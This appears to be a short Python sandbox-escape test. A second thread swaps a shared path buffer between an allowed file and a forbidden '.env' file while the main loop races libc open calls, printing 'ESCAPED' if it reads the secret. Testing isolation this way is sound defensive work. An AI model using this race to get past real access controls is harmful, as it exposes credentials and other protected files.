# A path changed in memory by another thread while the call that names it is decided.
import ctypes, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
good, bad = (os.environ["ESC_FIX"] + "/ws/file").encode(), (os.environ["ESC_FIX"] + "/ws/.env").encode()
buf = ctypes.create_string_buffer(200)
stop = False
def swap():
    while not stop:
        buf.value = good
        buf.value = bad
t = threading.Thread(target=swap); t.start()
end = time.time() + 2
while time.time() < end:
    fd = libc.open(buf, 0)
    if fd >= 0:
        if b"SECRET" in os.read(fd, 100):
            print("ESCAPED"); break
        os.close(fd)
stop = True; t.join()
